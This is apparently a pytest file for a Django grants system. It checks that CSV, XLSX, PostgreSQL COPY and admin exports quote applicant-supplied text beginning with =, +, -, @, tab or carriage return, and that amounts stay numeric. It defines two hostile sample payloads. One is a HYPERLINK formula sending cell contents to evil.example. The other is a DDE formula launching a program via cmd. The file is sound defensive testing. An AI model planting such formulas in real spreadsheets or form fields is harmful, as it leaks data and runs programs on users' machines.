"""Formula injection (issue 11, item 3): a name an applicant chose comes out of every CSV and XLSX as text that a
spreadsheet shows and never evaluates (OWASP's rule: a leading =, +, -, @, tab or carriage return gets a single
quote in front). Amounts stay numbers, a negative one included."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from grants.api import formats, reports
from grants.api.reports import Report
from grants.models import Application, Institution

# The example: a click in the spreadsheet sends the next cell's content to evil.example.
EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
# Dynamic data exchange: runs a program in older spreadsheet programs.
EVIL_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(world):
    """Carol's startup and its application under review carry formula-shaped text, as an applicant could type."""
    Institution.objects.filter(pk=world.institution.pk).update(name_en=EVIL_NAME, name_zh="-2+3")
    Application.objects.filter(pk=world.application.pk).update(title=EVIL_TITLE)
    return world


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


def xlsx_rows(response) -> tuple[list[str], list[tuple[Any, ...]], list[Any]]:
    """(header, rows of values, every cell) of the first sheet."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    header, *rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    return [str(h) for h in header], rows, cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_quote(start):
    assert formats.neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "Carol AI", "a=b", "2+2", "'=already quoted", "上海"])
def test_other_text_is_left_alone(text):
    assert formats.neutralise(text) == text


def test_numbers_stay_numbers_a_negative_amount_included():
    assert formats.csv_cell(Decimal("-1500.00")) == "-1500.00"
    assert formats.csv_cell(-3) == -3
    assert formats.csv_cell("-1500.00") == "'-1500.00"  # the same characters as text are text
    out = io.BytesIO()
    formats.write_xlsx(Report("r", ["name", "amount"], iter([(EVIL_NAME, Decimal("-1500.00"))])), out)
    name, amount = load_workbook(io.BytesIO(out.getvalue())).worksheets[0][2]
    assert (name.value, name.data_type) == (f"'{EVIL_NAME}", "s")
    assert (amount.value, amount.data_type) == (-1500, "n")


def test_disbursement_report_csv_shows_the_name_as_text(api, evil, erin):
    rows = csv_rows(api(erin).get("/api/v1/reports/disbursements/?group_by=institution&format=csv"))
    carol = next(r for r in rows if r["institution_credit_code"] == evil.institution.credit_code)
    assert carol["institution_name"] == f"'{EVIL_NAME}"
    assert Decimal(carol["paid_amount"]) == Decimal("1000000.00")  # an amount is written as it is


def test_disbursement_report_xlsx_has_no_formula_and_amounts_are_numbers(api, evil, erin):
    header, rows, cells = xlsx_rows(
        api(erin).get("/api/v1/reports/disbursements/?group_by=institution&format=xlsx")
    )
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_code = {r[header.index("institution_credit_code")]: dict(zip(header, r, strict=True)) for r in rows}
    carol = by_code[evil.institution.credit_code]
    assert carol["institution_name"] == f"'{EVIL_NAME}"
    assert isinstance(carol["paid_amount"], int | float) and carol["paid_amount"] == 1000000


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tranche_export_shows_the_name_as_text(api, evil, erin, fmt):
    """On PostgreSQL the CSV comes from the database's COPY, which neutralises in SQL; elsewhere from Python."""
    response = api(erin).get(f"/api/v1/reports/tranches/?format={fmt}")
    if fmt == "csv":
        rows = csv_rows(response)
    else:
        header, values, cells = xlsx_rows(response)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        rows = [dict(zip(header, r, strict=True)) for r in values]
    carols = [r for r in rows if r["institution_credit_code"] == evil.institution.credit_code]
    assert len(carols) == 3
    assert {r["institution_name"] for r in carols} == {f"'{EVIL_NAME}"}
    assert sorted(Decimal(str(r["amount"])) for r in carols) == sorted(
        t.amount for t in evil.award.tranches.all()
    )


@pytest.mark.postgres
def test_copy_neutralises_like_the_python_writer(evil, erin):
    assert connection.vendor == "postgresql"
    python_csv = "".join(formats.csv_lines(reports.tranche_export(erin, {})))
    qs = reports.tranche_export_queryset(erin, {})
    copy_csv = b"".join(formats.copy_lines(qs, [c for c, _p in reports.TRANCHE_EXPORT])).decode()
    assert f"'{EVIL_NAME}" in python_csv.replace('""', '"')
    assert list(csv.reader(io.StringIO(copy_csv))) == list(csv.reader(io.StringIO(python_csv)))


def test_admin_csv_export_shows_names_and_titles_as_text(evil, alice):
    client = Client()
    client.force_login(alice)
    rows = csv_rows(client.get(reverse("admin:grants_application_export")))
    application = next(r for r in rows if r["Reference"] == evil.application.reference)
    assert application["Institution"] == f"'{EVIL_NAME}"
    assert application["Institution (Chinese)"] == "'-2+3"
    assert application["Title"] == f"'{EVIL_TITLE}"
    assert application["Requested amount"] == "500000.00"
